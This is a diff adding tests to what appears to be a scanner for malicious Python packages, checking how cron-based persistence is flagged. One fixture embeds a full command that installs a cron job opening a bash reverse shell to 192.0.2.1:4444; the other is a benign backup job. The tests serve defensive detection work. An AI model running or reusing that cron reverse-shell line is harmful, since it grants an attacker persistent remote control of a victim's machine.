@@ -555,3 +555,25 @@ describe('PY-004: an encoded command line whose output is thrown away', () => {
     expect(findingsOf(r, 'PY-004')[0]?.severity).toBe('high');
   });
 });
+
+describe('PY-011: what a persisted entry runs', () => {
+  it('a cron line that starts a reverse shell is critical', async () => {
+    const r = await scanSdist({
+      'pkg/util.py': `import os\ndef install():\n    os.system("(crontab -l; echo '*/5 * * * * /bin/bash -c \\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\\"') | crontab -")\n`,
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-011')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.evidence?.payload).toBeDefined();
+  });
+
+  it('a cron line that runs an ordinary job keeps the pattern severity', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import os\nos.system("(crontab -l; echo '0 3 * * * /usr/bin/backup --quiet') | crontab -")\n`,
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-011')[0];
+    expect(f).toBeDefined();
+    expect(f?.severity).not.toBe('critical');
+  });
+});
